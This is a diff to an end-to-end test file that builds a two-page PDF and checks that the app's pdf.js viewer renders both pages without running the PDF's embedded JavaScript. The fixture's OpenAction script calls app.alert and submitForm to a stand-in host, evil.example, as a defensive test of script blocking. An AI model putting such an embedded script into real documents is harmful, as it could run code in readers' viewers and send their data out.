@@ -45,6 +45,34 @@ async function wounded(): Promise<Buffer> {
     .toBuffer();
 }
 
+/**
+ * A two-page PDF (a red square, then a blue one) whose OpenAction is JavaScript: pdf.js must draw
+ * the pages and never run the script.
+ */
+function pdfWithScript(): Buffer {
+  const square = (rgb: string) => `${rgb} rg 20 20 160 160 re f`;
+  const objects = [
+    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
+    '<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 6 0 R >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 7 0 R >>',
+    "<< /S /JavaScript /JS (app.alert\\('pdf script ran'\\); this.submitForm\\('https://evil.example/'\\);) >>",
+    ...['1 0 0', '0 0 1'].map((rgb) => `<< /Length ${square(rgb).length} >>\nstream\n${square(rgb)}\nendstream`),
+  ];
+  let out = '%PDF-1.7\n';
+  const offsets: number[] = [];
+  objects.forEach((o, i) => {
+    offsets.push(out.length);
+    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
+  });
+  const xref = out.length;
+  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
+  for (const off of offsets) out += `${String(off).padStart(10, '0')} 00000 n \n`;
+  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
+  return Buffer.from(out, 'latin1');
+}
+const PDF = 'lab-results.pdf';
+
 /** A 300×190 card-like PNG. */
 async function card(): Promise<Buffer> {
   const svg = Buffer.from(
@@ -213,6 +241,46 @@ describe('the full-size viewer', () => {
     expect(await axeViolations(rec.page), 'reception viewer').toEqual([]);
     await rec.page.keyboard.press('Escape');
     await v.waitFor({ state: 'detached' });
+  });
+
+  it('a PDF renders page by page with pdf.js in the renderer; its JavaScript never runs', async () => {
+    const dialogs: string[] = [];
+    doc.page.on('dialog', (d) => {
+      dialogs.push(d.message());
+      void d.dismiss(); // nothing to wait for: the test fails on the message anyway
+    });
+    await attach(rec, PDF, 'application/pdf', pdfWithScript());
+    await expect.poll(() => fileCard(rec, PDF).getAttribute('data-state'), { timeout: 45_000 }).toBe('sent');
+    const c = fileCard(doc, PDF);
+    await c.waitFor({ timeout: 45_000 });
+    await c.getByRole('button', { name: `Download ${PDF}` }).click();
+    await expect.poll(() => c.getAttribute('data-state'), { timeout: 45_000 }).toBe('stored');
+    const view = c.getByRole('button', { name: `View PDF ${PDF}` });
+    await view.click();
+    const v = doc.page.getByTestId('pdf-viewer');
+    await v.waitFor();
+    await expect.poll(() => v.getByTestId('pdf-position').textContent(), { timeout: 20_000 }).toBe('Page 1 of 2');
+    const canvas = v.getByTestId('pdf-page');
+    /** The colour in the middle of the drawn page, once pdf.js finished drawing it. */
+    const middle = async () => {
+      if ((await canvas.getAttribute('data-rendering')) !== 'false') return null;
+      return canvas.evaluate((cv: HTMLCanvasElement) => [
+        ...cv
+          .getContext('2d')!
+          .getImageData(cv.width / 2, cv.height / 2, 1, 1)
+          .data.slice(0, 3),
+      ]);
+    };
+    await expect.poll(middle, { timeout: 20_000 }).toEqual([255, 0, 0]);
+    await screenshot(doc.page, 'ui-attachment-pdf-viewer');
+    await doc.page.keyboard.press('ArrowRight');
+    await expect.poll(() => v.getByTestId('pdf-position').textContent()).toBe('Page 2 of 2');
+    await expect.poll(middle, { timeout: 20_000 }).toEqual([0, 0, 255]);
+    expect(await axeViolations(doc.page), 'PDF viewer').toEqual([]);
+    await doc.page.keyboard.press('Escape');
+    await v.waitFor({ state: 'detached' });
+    await expect.poll(() => view.evaluate((b) => b === document.activeElement)).toBe(true);
+    expect(dialogs).toEqual([]);
   });
 
   it('ran with the CSP enforced and no script errors', () => {
